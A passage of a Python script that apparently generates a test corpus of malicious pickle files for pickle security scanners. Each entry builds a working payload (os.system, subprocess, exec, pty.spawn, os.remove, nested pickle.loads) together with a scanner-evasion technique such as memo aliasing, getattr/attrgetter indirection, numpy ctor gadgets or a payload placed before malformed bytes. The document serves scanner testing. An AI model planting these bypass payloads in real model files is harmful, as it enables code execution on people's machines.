        C, "os.system is imported once, stored in memo[7] and popped; benign data follows; the REDUCE much later calls BINGET 7 "
        "(the call site names no global)",
        FK + " GHSA-h4rm-mm56-xf63 (PUT/GET aliasing)", "unsafe", "os.system")
    add("t_memo_dup_alias_callable.pkl",
        PROTO(2) + glob("subprocess", "call") + DUP + POP + enc((["echo", "pwned"],), 2) + REDUCE + STOP,
        C, "DUP duplicates the subprocess.call global; one copy is popped, the other called: the REDUCE target is a DUP result",
        CPY + " load_dup; fickling test_expansion_attack_analysis (DUP patterns)", "unsafe", "subprocess.call")
    add("t_memo_text_put_leading_zeros.pkl",
        glob("os", "system") + PUT("007") + POP + GET("7") + b"(S'echo pwned'\ntR.",
        C, "text PUT '007' and GET '7' name the same memo slot (CPython parses them with int()); a scanner keying the memo by "
        "the raw text misses the alias",
        CPY + " load_put/load_get (int(line))", "unsafe", "os.system")
    add("t_memo_cross_opcode_alias.pkl",
        PROTO(2) + glob("os", "popen") + PUT("300") + POP + LONG_BINGET(300) + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "the callable is stored by the text PUT 300 and fetched by the binary LONG_BINGET 300: one memo shared across "
        "opcode families",
        CPY + " (single memo for PUT/BINPUT/LONG_BINPUT/MEMOIZE)", "unsafe", "os.popen")


# ===========================================================================
# 4. payload-then-malformed
# ===========================================================================
def payload_then_malformed():
    C = "payload-then-malformed"
    pay2 = PROTO(2) + glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE
    add("t_pm_reduce_then_truncated.pkl",
        pay2 + POP + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + b"X" + struct.pack("<I", 100) + b"abc",
        C, "os.system REDUCE executes, then the stream is cut inside a BINUNICODE that claims 100 bytes (no STOP): CPython has "
        "already run the payload when it reports truncation",
        "ReversingLabs nullifAI report (Feb 2025: payload at the start of a broken pickle); " + PS + " broken_model.pkl",
        "unsafe", "os.system")
    add("t_pm_reduce_then_stack_underflow.pkl",
        pay2 + POP + POP + POP + STOP,
        C, "os.system REDUCE, then POPs on an empty stack (stack underflow) — the payload ran before the error",
        "ReversingLabs nullifAI report; CVE-2025-32434 coverage ('insert payload, then bytes that break the structure')",
        "unsafe", "os.system")
    add("t_pm_reduce_then_bad_opcode.pkl",
        pay2 + POP + b"\xff\xfe" + STOP,
        C, "os.system REDUCE, then the undefined opcode 0xff",
        "ReversingLabs nullifAI report; " + PS + " not_a_pickle.bin-style decoding failure after the payload", "unsafe", "os.system")
    add("t_pm_reduce_then_missing_mark.pkl",
        pay2 + POP + bu("a") + TUPLE + STOP,
        C, "os.system REDUCE, then TUPLE with no MARK on the stack ('could not find MARK')",
        "ReversingLabs nullifAI report", "unsafe", "os.system")
    add("t_pm_reduce_then_bad_proto.pkl",
        pay2 + POP + PROTO(0xFF) + NONE + STOP,
        C, "os.system REDUCE, then a second PROTO with the unsupported protocol 255",
        "ReversingLabs nullifAI report; " + CPY + " load_proto", "unsafe", "os.system")
    add("t_pm_reduce_then_invalid_utf8_global.pkl",
        pay2 + POP + b"cmod\n\xf8\n" + STOP,
        C, "os.system REDUCE, then a GLOBAL whose name is invalid UTF-8 (the decoding error a scanner hits after the payload)",
        PS + " initialize_not_a_pickle_file (0xf8 in a GLOBAL name)", "unsafe", "os.system")
    add("t_pm_keyerror_missing_memo.pkl",
        PROTO(4) + glob("os", "system") + uni('echo "pwned by memo keyerror"') + TUPLE1 + REDUCE + POP
        + sbu("os") + MEMOIZE + BINGET(3) + BINGET(0) + STACK_GLOBAL + b"K\x42" + STOP,
        C, "os.system REDUCE, then BINGET 3 of a memo slot never written (KeyError/'Memo value not found') feeding STACK_GLOBAL",
        PS + " tests/data2/keyerror-exploit.pkl", "unsafe", "os.system")
    add("t_pm_type_confusion_stack_global.pkl",
        PROTO(4) + glob("os", "system") + uni(CMD) + TUPLE1 + REDUCE + POP
        + b"J" + struct.pack("<i", 42) + MEMOIZE + sbu("os") + MEMOIZE
        + BINGET(0) + BINGET(1) + STACK_GLOBAL + b"K\x42" + STOP,
        C, "os.system REDUCE, then STACK_GLOBAL with an int (42) as module name ('STACK_GLOBAL requires str')",
        PS + " tests/data2/type-confusion-exploit.pkl", "unsafe", "os.system")
    add("t_pm_stop_then_garbage.pkl",
        MALICIOUS_P2 + b"\n\n\t\tnot a pickle \x00\xff",
        C, "a complete os.system pickle, STOP, then trailing garbage (a scanner that rejects trailing bytes must not discard "
        "the finding)",
        PS + " malicious-invalid-bytes.pkl (bytes after STOP)", "unsafe", "os.system")
    add("t_pm_benign_then_malicious_stream.pkl",
        bytes.fromhex("80045d94288c0161948c0162948c016394652e") + call("subprocess", "check_output", ["echo", "pwned"]),
        C, "a benign pickle (['a','b','c']) followed in the same file by a second pickle calling subprocess.check_output: "
        "a loader calling pickle.load twice (or torch's legacy format) runs the second",
        PS + " malicious6.pkl; " + MA + " tests/assets/pickles/multiple_stream_attack.pkl / PR #581 multi-stream analysis",
        "unsafe", "subprocess.check_output")
    p0 = b"csubprocess\ngetoutput\n(S'echo pwned'\ntR."
    add("t_pm_benign_then_malicious_proto0_stream.pkl",
        PROTO(2) + enc({"lr": 0.1}, 2) + STOP + p0,
        C, "a benign protocol-2 dict pickle, then a second stream in protocol 0 (no PROTO header, starts with 'c') calling "
        "subprocess.getoutput",
        PS + " malicious6.pkl (second stream); CVE-2025-10155 (protocol-0/1 streams without \\x80 magic)", "unsafe",
        "subprocess.getoutput")
    add("t_pm_payload_left_on_stack.pkl",
        PROTO(2) + glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE + enc({"weights": [0.5, 1]}, 2) + STOP,
        C, "os.system('echo pwned') is called and its result left on the stack under the returned dict: the call is not part "
        "of the returned object tree (well-formed stream; STOP with two stack items)",
        "fickling analysis UnusedVariables; " + FK + " GHSA-mxhj-88fx-4pcv", "unsafe", "os.system")
    add("t_pm_reduce_then_huge_claim.pkl",
        pay2 + POP + b"\x8d" + struct.pack("<Q", 1 << 62) + b"tail",
        C, "os.system REDUCE, then a BINUNICODE8 claiming 2^62 bytes with 4 present",
        "ReversingLabs nullifAI report", "unsafe", "os.system")


# ===========================================================================
# 5. indirection
# ===========================================================================
def indirection():
    C = "indirection"
    system_via_import = getattr_(Call(G("builtins", "__import__"), "os"), "system")
    add("t_ind_getattr_module_global.pkl",
        pkl(Call(getattr_(G("pathlib", "os"), "system"), CMD)),
        C, "builtins.getattr(<os module as the global pathlib.os>, 'system')('echo pwned'): the module object comes from a "
        "benign-looking module's attribute",
        "picklescan issue #66 (attribute-chain bypass class); " + PS_LIST + " (builtins.getattr)", "unsafe",
        ["builtins.getattr", "pathlib.os", "os.system"], names=["builtins.getattr", "pathlib.os"])
    add("t_ind_import_stack_global.pkl",
        pkl(Call(system_via_import, CMD)),
        C, "builtins.__import__('os') then builtins.getattr(.., 'system') then the call, all STACK_GLOBAL (protocol 4)",
        FK + " GHSA-h4rm-mm56-xf63 (builtins.__import__ bypass)", "unsafe",
        ["builtins.__import__", "builtins.getattr", "os.system"], names=["builtins.__import__", "builtins.getattr"])
    attrget = Call(Call(G("operator", "attrgetter"), "system"), Call(G("builtins", "__import__"), "os"))
    add("t_ind_operator_attrgetter.pkl",
        pkl(Call(attrget, CMD)),
        C, "operator.attrgetter('system')(builtins.__import__('os'))('echo pwned')",
        PS + " malicious12.pkl (pickleassem attrgetter chain)", "unsafe",
        ["operator.attrgetter", "builtins.__import__", "os.system"], names=["operator.attrgetter", "builtins.__import__"])
    add("t_ind_operator_attrgetter_dotted.pkl",
        pkl(Call(Call(Call(G("_operator", "attrgetter"), "os.system"), G("zipfile", "shutil")), CMD)),
        C, "_operator.attrgetter('os.system') applied to the shutil module (reached as the global zipfile.shutil): a dotted "
        "attrgetter walks module attributes (shutil -> os -> system)",
        ps_ghsa("GHSA-955r-x9j8-7rhh") + " (_operator module spelling); " + PS_LIST, "unsafe",
        ["_operator.attrgetter", "zipfile.shutil", "os.system"], names=["_operator.attrgetter", "zipfile.shutil"])
    add("t_ind_methodcaller_pydoc_locate.pkl",
        pkl(Call(Call(G("_operator", "methodcaller"), "system", CMD), Call(G("pydoc", "locate"), "os"))),
        C, "_operator.methodcaller('system', 'echo pwned')(pydoc.locate('os'))",
        ps_ghsa("GHSA-84r2-jw7c-4r5q") + "; " + FK + " GHSA-955r-x9j8-7rhh (test_operator_methodcaller)", "unsafe",
        ["_operator.methodcaller", "pydoc.locate", "os.system"], names=["_operator.methodcaller", "pydoc.locate"])
    add("t_ind_itemgetter_builtins_dict.pkl",
        pkl(Call(Call(Call(G("operator", "itemgetter"), "exec"), G("builtins", "__dict__")), "print('pwned')")),
        C, "operator.itemgetter('exec')(builtins.__dict__)('print(...)'): the namespace dict is a global, exec is an item",
        PS_LIST + " (operator.itemgetter)", "unsafe",
        ["operator.itemgetter", "builtins.__dict__", "builtins.exec"], names=["operator.itemgetter", "builtins.__dict__"])
    partial_body = (sglob("functools", "partial") + sglob("os", "system") + TUPLE1 + REDUCE
                    + enc((G("os", "system"), (CMD,), {}, None)) + BUILD + EMPTY_TUPLE + REDUCE)
    add("t_ind_functools_partial.pkl",
        PROTO(4) + partial_body + STOP,
        C, "functools.partial(os.system) with BUILD state (os.system, ('echo pwned',), {}, None) — partial.__setstate__, the "
        "form pickle itself writes — then the partial is called with ()",
        PS_LIST + " ('functools': partial(os.system, 'echo pwned')); " + PS + " Malicious19", "unsafe",
        ["functools.partial", "os.system"])
    add("t_ind_functools_reduce_getattr.pkl",
        pkl(Call(Call(G("functools", "reduce"), G("builtins", "getattr"), ["system"], G("logging", "os")), CMD)),
        C, "functools.reduce(builtins.getattr, ['system'], <os module as logging.os>)('echo pwned'): reduce applies getattr",
        MA_LIST + " (functools reduce/partial)", "unsafe",
        ["functools.reduce", "builtins.getattr", "logging.os", "os.system"],
        names=["functools.reduce", "builtins.getattr", "logging.os"])
    add("t_ind_py2_builtin_reduce.pkl",
        pkl(Call(Call(G("__builtin__", "reduce"), G("__builtin__", "getattr"), ["system"], G("logging", "os")), CMD), 2),
        C, "Python 2 names __builtin__.reduce / __builtin__.getattr at protocol 2: NAME_MAPPING turns reduce into "
        "functools.reduce (not builtins.reduce)",
        CPY_COMPAT + " (('__builtin__','reduce') -> functools.reduce)", "unsafe",
        ["functools.reduce", "builtins.getattr", "os.system"],
        names=["functools.reduce", "builtins.getattr", "logging.os"])
    add("t_ind_importlib_import_module.pkl",
        pkl(Call(getattr_(Call(G("importlib", "import_module"), "os"), "system"), CMD)),
        C, "importlib.import_module('os') then getattr 'system' and the call",
        "picklescan PR #74 / issue #66 (importlib bypass); " + MA_LIST, "unsafe",
        ["importlib.import_module", "builtins.getattr", "os.system"], names=["importlib.import_module", "builtins.getattr"])
    add("t_ind_pkgutil_resolve_name.pkl",
        pkl(Call(Call(G("pkgutil", "resolve_name"), "os:system"), CMD)),
        C, "pkgutil.resolve_name('os:system')('echo pwned'): one string resolves any module attribute",
        ps_ghsa("GHSA-vvpj-8cmc-gx39") + " (universal bypass)", "unsafe", ["pkgutil.resolve_name", "os.system"],
        names=["pkgutil.resolve_name"])
    add("t_ind_pydoc_locate.pkl",
        pkl(Call(Call(G("pydoc", "locate"), "subprocess.getoutput"), CMD)),
        C, "pydoc.locate('subprocess.getoutput')('echo pwned')",
        ps_ghsa("GHSA-84r2-jw7c-4r5q") + "; " + FK + " GHSA-5hvc-6wx8-mvv4", "unsafe",
        ["pydoc.locate", "subprocess.getoutput"], names=["pydoc.locate"])
    spec = Call(G("importlib.util", "find_spec"), "os")
    add("t_ind_importlib_util_spec_chain.pkl",
        PROTO(4) + enc(spec) + BINPUT(0) + POP
        + enc(Call(G("importlib.util", "module_from_spec"), Raw(BINGET(0)))) + BINPUT(1) + POP
        + enc(Call(getattr_(getattr_(Raw(BINGET(0)), "loader"), "exec_module"), Raw(BINGET(1)))) + POP
        + enc(Call(getattr_(Raw(BINGET(1)), "system"), CMD)) + STOP,
        C, "importlib.util.find_spec('os') -> module_from_spec -> spec.loader.exec_module(module) -> getattr(module,'system')"
        "('echo pwned'): loads a fresh os module without import_module",
        "picklescan issue #66 (find_spec + module_from_spec chain); " + MA_LIST + " (importlib.util)", "unsafe",
        ["importlib.util.find_spec", "importlib.util.module_from_spec", "builtins.getattr", "os.system"],
        names=["importlib.util.find_spec", "importlib.util.module_from_spec", "builtins.getattr"])
    add("t_ind_sys_modules_get.pkl",
        pkl(Call(getattr_(Call(G("logging", "sys.modules.get"), "os"), "system"), CMD)),
        C, "dotted global logging + 'sys.modules.get' (bound sys.modules.get) called with 'os', then getattr 'system'",
        "picklescan issue #66; " + FK + " GHSA-5j3x-jp52-966f (dotted names)", "unsafe",
        ["logging.sys.modules.get", "builtins.getattr", "os.system"], names=["logging.sys.modules.get", "builtins.getattr"])
    add("t_ind_copyreg_reconstructor_base_init.pkl",
        pkl(Call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"), ["echo", "pwned"])),
        C, "copyreg._reconstructor(subprocess.Popen, subprocess.Popen, ['echo','pwned']): base.__new__ then "
        "base.__init__(obj, state) — Popen.__init__ runs the command",
        CPY + " copyreg._reconstructor; fickling/ModelAudit treat copyreg as a constructor helper", "unsafe",
        ["copyreg._reconstructor", "subprocess.Popen"])
    add("t_ind_copyreg_newobj.pkl",
        pkl(Call(G("copyreg", "__newobj__"), G("subprocess", "Popen"), ["echo", "pwned"])),
        C, "copyreg.__newobj__(subprocess.Popen, ['echo','pwned']): cls.__new__(cls, *args) through the helper that "
        "protocol-2 pickles name for NEWOBJ",
        CPY + " copyreg.__newobj__", "unsafe", ["copyreg.__newobj__", "subprocess.Popen"])
    add("t_ind_copyreg_newobj_ex.pkl",
        pkl(Call(G("copyreg", "__newobj_ex__"), G("subprocess", "Popen"), (["echo", "pwned"],), {"shell": False})),
        C, "copyreg.__newobj_ex__(subprocess.Popen, args, kwargs)",
        CPY + " copyreg.__newobj_ex__", "unsafe", ["copyreg.__newobj_ex__", "subprocess.Popen"])
    add("t_ind_defaultdict_factory.pkl",
        pkl(Call(G("collections", "defaultdict"), G("code", "interact")), 2),
        C, "collections.defaultdict(code.interact): the dangerous callable is stored as default_factory and runs later, when "
        "the application reads a missing key (a deferred call, no REDUCE on it)",
        CPY + " defaultdict.__reduce__ (factory as a constructor argument)", "unsafe",
        ["collections.defaultdict", "code.interact"])
    add("t_ind_numpy_randomstate_ctor.pkl",
        pkl(Call(G("numpy.random._pickle", "__randomstate_ctor"), CMD, G("os", "system"))),
        C, "numpy.random._pickle.__randomstate_ctor('echo pwned', os.system): the second argument is the bit-generator "
        "constructor and is called with the first (os.system('echo pwned')) before RandomState sees the result",
        "numpy random/_pickle.py (bit_generator_ctor callable, numpy PR #22014); " + MA
        + " pickle_scanner.py safe globals (allows numpy.random._pickle ctors)", "unsafe",
        ["numpy.random._pickle.__randomstate_ctor", "os.system"])
    add("t_ind_numpy_generator_ctor.pkl",
        pkl(Call(G("numpy.random._pickle", "__generator_ctor"), CMD, G("subprocess", "getoutput"))),
        C, "numpy.random._pickle.__generator_ctor('echo pwned', subprocess.getoutput): the ctor argument is called with the name",
        "numpy random/_pickle.py; " + MA + " pickle_scanner.py safe globals", "unsafe",
        ["numpy.random._pickle.__generator_ctor", "subprocess.getoutput"])
    add("t_ind_numpy_bit_generator_ctor_type.pkl",
        pkl(Call(G("numpy.random._pickle", "__bit_generator_ctor"), G("socket", "socket"))),
        C, "numpy.random._pickle.__bit_generator_ctor(socket.socket): any type passed is instantiated with no arguments",
        "numpy random/_pickle.py (isinstance(bit_generator, type) branch); " + MA + " pickle_scanner.py safe globals",
        "unsafe", ["numpy.random._pickle.__bit_generator_ctor", "socket.socket"])
    add("t_ind_call_of_call_result.pkl",
        pkl(Call(Call(G("builtins", "dict.get"), Call(G("builtins", "vars"), G("logging", "os")), "system"), CMD)),
        C, "REDUCE on a REDUCE result: builtins.dict.get(builtins.vars(<os module as logging.os>), 'system') returns "
        "os.system, which the next REDUCE calls — only allowed-looking builtins are named",
        MA_LIST + " (builtins vars); " + FK + " GHSA-5j3x-jp52-966f (dotted names under an allowed module)", "unsafe",
        ["builtins.dict.get", "builtins.vars", "logging.os", "os.system"],
        names=["builtins.dict.get", "builtins.vars", "logging.os"])
    add("t_ind_cloudpickle_subimport.pkl",
        pkl(Call(getattr_(Call(G("cloudpickle.cloudpickle", "subimport"), "os"), "system"), CMD)),
        C, "cloudpickle.cloudpickle.subimport('os') (cloudpickle's module importer) then getattr 'system'",
        PS_LIST + " (cloudpickle.cloudpickle subimport)", "unsafe",
        ["cloudpickle.cloudpickle.subimport", "builtins.getattr", "os.system"],
        names=["cloudpickle.cloudpickle.subimport", "builtins.getattr"])
    add("t_ind_ext1_call.pkl",
        PROTO(2) + EXT1 + b"\x01" + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "EXT1 code 1 (a copyreg extension-registry entry, empty in a fresh interpreter but registrable by the application) "
        "called with 'echo pwned': the callee is unknowable from the file",
        "pickletools EXT1/EXT2/EXT4 docs; copyreg.add_extension", "inconclusive", [], names=[])
    add("t_ind_ext2_ext4_calls.pkl",
        PROTO(2) + EXT2 + struct.pack("<H", 0x1234) + EMPTY_TUPLE + REDUCE + POP
        + EXT4 + struct.pack("<i", 0x7FFFFFFF) + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "EXT2 code 0x1234 and EXT4 code 0x7fffffff, each called with REDUCE",
        "pickletools EXT1/EXT2/EXT4 docs; copyreg.add_extension", "inconclusive", [], names=[])
    add("t_ind_persid_called.pkl",
        PROTO(0) + b"Pos.system\n" + MARK + uni(CMD) + TUPLE + REDUCE + STOP,
        C, "PERSID 'os.system' (resolved by the application's persistent_load) called with REDUCE: what runs depends on the "
        "loader",
        "pickletools PERSID docs; " + CPY + " persistent_load", "inconclusive", [], names=[])
    add("t_ind_binpersid_global_in_pid.pkl",
        PROTO(2) + enc(("storage", G("os", "system"), "0", "cpu", 4), 2) + BINPERSID + STOP,
        C, "BINPERSID whose persistent id is torch's storage tuple with os.system in the storage-type slot: the global is "
        "imported while the pid is built, and torch's persistent_load reads attributes of it",
        "torch serialization persistent_load (storage tuple); fickling pytorch.py", "unsafe", "os.system")


# ===========================================================================
# 6. nested-pickle
# ===========================================================================
def nested():
    C = "nested-pickle"
    inner_names = ["os.system"]

    def nadd(file, value, technique, source, gadget, names, proto=4, inner=INNER):
        data = pkl(value, proto)
        add(file, data, C, technique, source, "unsafe", gadget + ["os.system"], names=names,
            streams=[(data, names), (inner, inner_names)])

    nadd("t_nest_pickle_loads.pkl", Call(G("pickle", "loads"), INNER),
         "pickle.loads(<bytes of a pickle that calls os.system>)", PS + " malicious13b.pkl", ["pickle.loads"], ["pickle.loads"])
    nadd("t_nest__pickle_loads.pkl", Call(G("_pickle", "loads"), INNER),
         "_pickle.loads(<inner os.system pickle>) (the C module spelling)", PS_LIST + " ('_pickle': '*')",
         ["_pickle.loads"], ["_pickle.loads"])
    nadd("t_nest_pickle_py_loads.pkl", Call(G("pickle", "_loads"), INNER),
         "pickle._loads (pure-Python unpickler) on the inner pickle", PS_LIST + " ('pickle': '*')",
         ["pickle._loads"], ["pickle._loads"])
    nadd("t_nest_cpickle_py2_codecs.pkl",
         Call(G("cPickle", "loads"), Call(G("_codecs", "encode"), INNER.decode("latin-1"), "latin1")),
         "Python 2 cPickle.loads (mapped to pickle.loads at protocol 2) on bytes rebuilt the protocol-2 way: "
         "_codecs.encode(<latin-1 text>, 'latin1')",
         CPY_COMPAT + " (cPickle -> pickle); " + PS + " malicious13a.pkl", ["pickle.loads"], ["pickle.loads", "_codecs.encode"],
         proto=2)
    nadd("t_nest_pickle_load_bytesio.pkl", Call(G("pickle", "load"), Call(G("io", "BytesIO"), INNER)),
         "pickle.load(io.BytesIO(<inner pickle>))", PS_LIST + "; " + MA_LIST + " (pickle load)", ["pickle.load"],
         ["pickle.load", "io.BytesIO"])
    nadd("t_nest_unpickler_load.pkl",
         Call(getattr_(Call(G("pickle", "Unpickler"), Call(G("io", "BytesIO"), INNER)), "load")),
         "pickle.Unpickler(io.BytesIO(inner)).load() through builtins.getattr", PS_LIST + " ('pickle': '*')",
         ["pickle.Unpickler", "builtins.getattr"], ["pickle.Unpickler", "builtins.getattr", "io.BytesIO"])
    nadd("t_nest_base64_pickle_loads.pkl",
         Call(G("pickle", "loads"), Call(G("base64", "b64decode"), b64encode(INNER).decode())),
         "pickle.loads(base64.b64decode('<base64 of the inner pickle>'))",
         MA + " tests/assets/samples/pickles/decode_exec_chain.pkl, nested_pickle_base64.pkl", ["pickle.loads", "base64.b64decode"],
         ["pickle.loads", "base64.b64decode"])
    nadd("t_nest_bytes_fromhex.pkl",
         Call(G("_pickle", "loads"), Call(G("builtins", "bytes.fromhex"), INNER.hex())),
         "_pickle.loads(builtins.bytes.fromhex('<hex>')): the decoder is a dotted name under the allowed builtins.bytes",
         MA + " nested_pickle_hex.pkl; " + FK + " GHSA-5j3x-jp52-966f (dotted names)", ["_pickle.loads", "builtins.bytes.fromhex"],
         ["_pickle.loads", "builtins.bytes.fromhex"])
    nadd("t_nest_dill_loads.pkl", Call(G("dill", "loads"), INNER),
         "dill.loads(<inner pickle>)", MA_LIST + " (dill load/loads); modelscan tests (DillInject)", ["dill.loads"], ["dill.loads"])
    nadd("t_nest_joblib_load.pkl", Call(G("joblib", "load"), Call(G("io", "BytesIO"), INNER)),
         "joblib.load(io.BytesIO(<inner pickle>)) (joblib.numpy_pickle.load)", MA_LIST + " ('joblib': '*'); picklescan scanner.py TODO list",
         ["joblib.load"], ["joblib.load", "io.BytesIO"])
    nadd("t_nest_torch_load_bytesio.pkl", Call(G("torch.serialization", "load"), Call(G("io", "BytesIO"), INNER)),
         "torch.serialization.load(io.BytesIO(<inner legacy pickle>)) — torch < 2.6 defaults to weights_only=False",
         PS_LIST + " ('torch.serialization': 'load')", ["torch.serialization.load"], ["torch.serialization.load", "io.BytesIO"])
    tl = (sglob("functools", "partial") + sglob("torch", "load") + TUPLE1 + REDUCE
          + enc((G("torch", "load"), (TMP + "/other_model.bin",), {"weights_only": False}, None)) + BUILD + EMPTY_TUPLE + REDUCE)
    add("t_nest_torch_load_partial_weights_only_false.pkl", PROTO(4) + tl + STOP, C,
        "functools.partial(torch.load) with BUILD state (torch.load, ('/tmp/pickleproof-test/other_model.bin',), "
        "{'weights_only': False}, None) then called: loads another file with the full unpickler",
        PS + " Malicious19 (partial(torch.load, path, weights_only=False)); " + FK_LIST + " (torch.load)", "unsafe",
        ["functools.partial", "torch.load"])
    nadd("t_nest_torch_storage_load_from_bytes.pkl", Call(G("torch.storage", "_load_from_bytes"), INNER),
         "torch.storage._load_from_bytes(<inner pickle>) — a name real torch pickles use, which calls torch.load(io.BytesIO(b))",
         FK_LIST + " (torch.storage._load_from_bytes)", ["torch.storage._load_from_bytes"], ["torch.storage._load_from_bytes"])
    nadd("t_nest_numpy_load_allow_pickle.pkl",
         Call(G("numpy", "load"), Call(G("io", "BytesIO"), npy_object(INNER)), None, True),
         "numpy.load(io.BytesIO(<.npy with object dtype>), None, True): allow_pickle=True positionally, so the .npy body "
         "(the inner pickle) is unpickled",
         "picklescan scanner.py TODO (numpy.load); " + PS + " dns_exfiltration.npy", ["numpy.load"], ["numpy.load", "io.BytesIO"])
    nadd("t_nest_pandas_read_pickle.pkl", Call(G("pandas.io.pickle", "read_pickle"), Call(G("io", "BytesIO"), INNER)),
         "pandas.io.pickle.read_pickle(io.BytesIO(<inner pickle>))", "picklescan scanner.py TODO (pandas.read_pickle)",
         ["pandas.io.pickle.read_pickle"], ["pandas.io.pickle.read_pickle", "io.BytesIO"])
    nadd("t_nest_torch_config_module_load_config.pkl",
         Call(G("torch.utils._config_module", "ConfigModule.load_config"), {}, INNER),
         "torch.utils._config_module.ConfigModule.load_config({}, <inner pickle>) — unpickles its argument",
         ps_ghsa("GHSA-vv6j-3g6g-2pvj"), ["torch.utils._config_module.ConfigModule.load_config"],
         ["torch.utils._config_module.ConfigModule.load_config"])
    nadd("t_nest_datapipes_basichandlers.pkl",
         Call(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", INNER),
         "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', <inner pickle>) — pickle.loads on the data",
         ps_ghsa("GHSA-h3qp-7fh3-f8h4"), ["torch.utils.data.datapipes.utils.decoder.basichandlers"],
         ["torch.utils.data.datapipes.utils.decoder.basichandlers"])
    nadd("t_nest_lib2to3_grammar_loads.pkl",
         Call(G("lib2to3.pgen2.grammar", "Grammar.loads"), {}, INNER),
         "lib2to3.pgen2.grammar.Grammar.loads({}, <inner pickle>) — pickle.loads inside", ps_ghsa("GHSA-f54q-57x4-jg88"),
         ["lib2to3.pgen2.grammar.Grammar.loads"], ["lib2to3.pgen2.grammar.Grammar.loads"])
    code = marshal.dumps(compile("__import__('os').system('echo pwned')", "<pickleproof-test>", "exec"))
    value = Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), code), {}))
    data = pkl(value)
    add("t_nest_marshal_function_type.pkl", data, C,
        "marshal.loads(<CPython 3.11 code object bytes>) -> types.FunctionType(code, {}) -> called with (): the code runs "
        "__import__('os').system('echo pwned') (bytecode is version-specific; the chain is the finding)",
        "fickling GHSA-565g-hwwr-4pp3 (test_missing_marshal_and_types); picklescan PR #74 (marshal bypass)", "unsafe",
        ["marshal.loads", "types.FunctionType", "os.system"], names=["marshal.loads", "types.FunctionType"])


def npy_object(payload):
    """A .npy v1.0 file with object dtype: header, then the pickle (what numpy.save writes
    for an object array and numpy.load(allow_pickle=True) unpickles)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload


# ===========================================================================
# 7. gadget
# ===========================================================================
PAY = "__import__('os').system('echo pwned')"
GADGETS = [
    # (file stem, module, qualname, args, source, what it does)
    ("os_popen", "os", "popen", (CMD,), PS_LIST + " ('os': '*'); " + MA_LIST, "runs a shell command, returns a pipe"),
    ("os_execv", "os", "execv", ("/bin/echo", ["echo", "pwned"]), PS_LIST + " ('os': '*')", "replaces the process image"),
    ("os_spawnv", "os", "spawnv", (0, "/bin/echo", ["echo", "pwned"]), MA_LIST + " (os.spawn* string pattern)", "spawns a program (P_WAIT)"),
    ("os_posix_spawn", "os", "posix_spawn", ("/bin/echo", ["echo", "pwned"], {}), PS_LIST + " ('os': '*')", "spawns a program"),
    ("os_remove", "os", "remove", (TMP + "/victim",), PS_LIST + " ('os': '*')", "deletes a file"),
    ("os_chmod", "os", "chmod", (TMP + "/victim", 0o777), PS_LIST + " ('os': '*')", "changes file permissions"),
    ("os_rename", "os", "rename", (TMP + "/a", TMP + "/b"), PS_LIST + " ('os': '*')", "renames a file"),
    ("subprocess_run", "subprocess", "run", (["echo", "pwned"],), PS + " Malicious7 (subprocess.run)", "runs a program"),
    ("subprocess_call", "subprocess", "call", (["echo", "pwned"],), PS_LIST + " ('subprocess': '*')", "runs a program"),
    ("subprocess_check_output", "subprocess", "check_output", (["echo", "pwned"],), PS_LIST + " ('subprocess': '*')", "runs a program"),
    ("subprocess_getoutput", "subprocess", "getoutput", (CMD,), PS_LIST + " ('subprocess': '*')", "runs a shell command"),
    ("subprocess_getstatusoutput", "subprocess", "getstatusoutput", (CMD,), PS_LIST + " ('subprocess': '*')", "runs a shell command"),
    ("pty_spawn", "pty", "spawn", (["/bin/sh", "-c", "echo pwned; exit"],), ps_ghsa("GHSA-vqmv-47xg-9wpr") + "; fickling GHSA-r7v6-mfhq-g3m2", "spawns a shell on a pty"),
    ("builtins_exec", "builtins", "exec", ("print('pwned')",), PS + " broken_model.pkl (builtins.exec)", "executes Python code"),
    ("builtins_compile", "builtins", "compile", (PAY, "<s>", "exec"), PS + " malicious0.pkl (Sour Pickles, BH US 2011)", "compiles code for a later eval"),
    ("builtins_open", "builtins", "open", (TMP + "/owned", "w"), PS_LIST + " (builtins.open)", "opens/creates a file"),
    ("builtins_breakpoint", "builtins", "breakpoint", (), PS_LIST + " (builtins.breakpoint)", "enters the debugger (PYTHONBREAKPOINT can name any callable)"),
    ("builtins_input", "builtins", "input", ("pwned> ",), MA_LIST + " (builtins input)", "blocks on stdin (DoS)"),
    ("code_interactiveinterpreter_runcode", "code", "InteractiveInterpreter.runcode", ({}, PAY), ps_ghsa("GHSA-cj3c-v495-4xqh") + "; fickling test_missing_code", "exec of source (unbound method with a dict as self)"),
    ("runpy_run_code", "runpy", "_run_code", (PAY, {}), PS + " Malicious14 (runpy._run_code)", "exec of source"),
    ("runpy_run_path", "runpy", "run_path", (TMP + "/malicious.py",), "fickling GHSA-wfq2-52f7-7qvj (test_missing_runpy)", "runs a Python file"),
    ("runpy_run_module", "runpy", "run_module", ("pickleproof_test_module",), "fickling GHSA-q5qq-mvfm-j35x; " + MS + " ('runpy': '*')", "runs a module"),
    ("timeit_timeit", "timeit", "timeit", ("", PAY), PS + " Malicious21 (GHSA-v7x6-rv5q-mhwc)", "exec of the setup string"),
    ("cprofile_run", "cProfile", "run", (PAY,), ps_ghsa("GHSA-49gj-c84q-6qm9") + "; fickling GHSA-p523-jq9w-64x9", "exec under the profiler"),
    ("cprofile_runctx", "cProfile", "runctx", (PAY, None, None), ps_ghsa("GHSA-9w88-8rmg-7g2p"), "exec under the profiler"),
    ("profile_run", "profile", "run", (PAY,), ps_ghsa("GHSA-7wx9-6375-f5wh"), "exec under the pure-Python profiler"),
    ("profile_profile_runctx", "profile", "Profile.runctx", ({}, PAY, {}, {}), ps_ghsa("GHSA-6vqj-c2q5-j97w"), "exec (unbound method)"),
